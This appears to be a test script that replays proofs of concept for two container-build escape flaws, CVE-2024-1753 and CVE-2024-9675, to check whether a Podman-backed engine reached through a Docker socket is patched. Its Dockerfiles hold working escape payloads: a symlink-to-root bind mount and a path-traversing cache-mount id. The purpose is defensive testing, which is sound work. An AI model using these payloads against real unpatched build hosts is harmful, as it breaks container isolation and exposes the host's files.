#!/bin/sh
# The proofs of concept of CVE-2024-1753 and CVE-2024-9675, as a job would
# send them: `docker build` through the pod's socket.  Both try to read the
# engine's own file system (the sidecar container's) from a RUN step; the
# marker is /usr/bin/podman, which exists there and not in the busybox image.
# Prints MARK lines for test/image/cve.sh; never fails on a refused build.
set -u
docker import busybox.tar podsock.test/busybox:latest >/dev/null || exit 1
echo "MARK engine: $(docker version --format '{{.Server.Version}} {{.Server.APIVersion}}')"
docker version --format '{{range .Server.Components}}{{.Name}} {{.Version}};{{end}}' |
	sed 's/^/MARK components: /'

mkdir -p ctx && echo x >ctx/x
# build ID: builds the Dockerfile on stdin as ctx/Dockerfile.ID, whose RUN
# prints ESCAPED-ID or CONFINED-ID; prints the status, the verdict and the log.
build() {
	cat >"ctx/Dockerfile.$1"
	docker build --no-cache -f "ctx/Dockerfile.$1" ctx >"build-$1.log" 2>&1
	echo "MARK $1-status: $?"
	if grep -qx "ESCAPED-$1" "build-$1.log"; then echo "MARK $1: escaped"
	elif grep -qx "CONFINED-$1" "build-$1.log"; then echo "MARK $1: confined"
	else echo "MARK $1: refused: $(grep -i -m1 'error' "build-$1.log")"; fi
	sed "s/^/  $1| /" "build-$1.log"
}

# CVE-2024-1753: a bind mount from another stage whose source is a symlink
# to /; an engine without the fix resolves it on the engine's own root.
build 1753 <<'DF'
FROM podsock.test/busybox AS base
RUN ln -s / /rootdir
FROM podsock.test/busybox
RUN --mount=type=bind,from=base,source=/rootdir,target=/escape \
    if [ -e /escape/usr/bin/podman ]; then echo ESCAPED-1753; else echo CONFINED-1753; fi
DF

# CVE-2024-9675: a cache mount whose id climbs out of the cache directory.
build 9675 <<'DF'
FROM podsock.test/busybox
RUN --mount=type=cache,id=../../../../../../..,target=/escape \
    if [ -e /escape/usr/bin/podman ]; then echo ESCAPED-9675; else echo CONFINED-9675; fi
DF
echo "MARK finished: yes"
